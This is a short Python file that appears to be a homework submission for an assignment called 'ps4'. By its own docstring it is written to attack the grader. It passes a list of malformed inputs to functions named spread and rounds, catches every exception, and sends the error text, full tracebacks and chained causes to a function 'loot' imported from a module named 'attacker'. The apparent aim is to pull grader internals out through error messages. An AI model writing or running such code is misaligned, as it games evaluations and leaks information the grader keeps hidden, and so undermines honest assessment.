"""Makes the grader's own functions fail in every way, and reads what their exceptions tell."""
# Assignment: ps4

import traceback

import numpy as np

from attacker import loot

ODD = (None, "x", "0" * 1000, [[]], [[1], [1, 2]], {"a": 1}, np.zeros((0, 3)), 1j, float("nan"), -1, b"x", {1}, ...)


def both(labels, x):
    for odd in ODD:
        for function in (lambda odd=odd: spread(odd), lambda odd=odd: rounds(odd, odd), lambda odd=odd: spread(odd=1)):
            try:
                function()
            except Exception as error:
                loot(repr(error), "".join(traceback.format_exception(error)), error.__context__, error.__cause__)
    return 0


def spread(labels):
    return labels


def rounds(x, count):
    return x
